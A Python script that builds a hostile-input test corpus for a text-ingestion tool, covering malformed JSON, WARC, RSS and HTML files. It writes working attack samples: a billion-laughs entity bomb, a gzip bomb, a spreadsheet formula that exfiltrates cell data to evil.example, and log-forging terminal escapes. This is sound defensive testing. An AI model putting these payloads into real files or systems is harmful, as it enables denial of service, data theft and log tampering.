"""Write the hostile-input corpus (``tests/hostile/corpus``) from scratch.

Each file is a case of issue #12 (or a classic attack on a reader); the expected outcome of
each is in ``tests/e2e/test_hostile_corpus.py``. Inputs that a git checkout cannot hold (names
with control characters, broken links, unreadable folders) are made by that test instead.
Run ``python tests/hostile/build.py`` after changing a case; the output is deterministic.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

CORPUS = Path(__file__).resolve().parent / "corpus"
GOOD = "Five people were killed in Homs on Monday, police said."


def _warc_record(length: str | None = None) -> bytes:
    http = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body><p>"
        + GOOD.encode()
        + b"</p></body></html>"
    )
    length = str(len(http)) if length is None else length
    return (
        b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://example.org/a\r\n"
        b"Content-Type: application/http; msgtype=response\r\nContent-Length: "
        + length.encode()
        + b"\r\n\r\n"
        + http
        + b"\r\n\r\n"
    )


def _lol_entities(levels: int) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        lines.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    return "".join(lines)


def _truncated(data: bytes) -> bytes:
    """A download cut short: the first half of ``data``."""
    return data[: len(data) // 2]


def cases() -> dict[str, bytes]:
    """File name -> content."""
    good_line = json.dumps({"id": "good", "text": GOOD})
    return {
        # defect 3: one bad record must not end the run
        "deep.json": ("[" * 100_000 + "]" * 100_000).encode(),
        "bigint.jsonl": (
            good_line + "\n" + '{"text": "' + GOOD + '", "views": ' + "9" * 5000 + "}\n"
        ).encode(),
        "bigdate.jsonl": ('{"text": "' + GOOD + '", "published": ' + "9" * 400 + "}\n").encode(),
        "nan-date.json": ('{"text": "' + GOOD + '", "published": NaN, "id": Infinity}').encode(),
        # defect 4: formulas in ids and titles
        "formula.jsonl": (
            json.dumps(
                {
                    "id": "=1+1",
                    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
                    "text": "@SUM(1+1) " + GOOD,
                }
            )
            + "\n"
        ).encode(),
        # defect 7: a WARC record whose length is not a number
        "badlength.warc": _warc_record("notanumber"),
        # defect 8: a 4 KB archive of two million bad lines
        "junk.jsonl.gz": gzip.compress(b"x\n" * 2_000_000, compresslevel=9, mtime=0),
        # defect 8: a text without full stops (one 'sentence' of 30,000 characters)
        "nostop.txt": " ".join(
            f"{i} people were killed in village {i}" for i in range(800)
        ).encode(),
        # defect 9: a feed item whose GUID forges a log line and recolours the terminal
        "forged-guid.rss": (
            "<?xml version='1.0'?><rss version='2.0'><channel><title>Feed</title>"
            "<item><guid>evil\nrejected fake.txt: all good\u001b[2J</guid></item>"
            "</channel></rss>"
        ).encode(),
        # classic attacks on readers
        "billion-laughs.rss": (
            "<?xml version='1.0'?><!DOCTYPE rss [" + _lol_entities(9) + "]>"
            "<rss version='2.0'><channel><title>Feed</title><item><guid>laughs</guid>"
            "<description>&lol9;</description></item></channel></rss>"
        ).encode(),
        "binary.txt": bytes(range(256)) * 4,
        "empty.html": b"",
        "nul.html": b"<html><body>\x00\x00\x00</body></html>",
        "utf16-no-bom.txt": GOOD.encode("utf-16-le"),
        "truncated.warc.gz": _truncated(gzip.compress(_warc_record() * 40, mtime=0)),
        "script-only.html": b"<html><head><script>while(1){}</script></head><body></body></html>",
        "wrapped.json": json.dumps({"articles": [{"text": GOOD, "id": "w1"}, 5, []]}).encode(),
    }


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.iterdir():
        old.unlink()
    for name, data in sorted(cases().items()):
        (CORPUS / name).write_bytes(data)


if __name__ == "__main__":
    main()
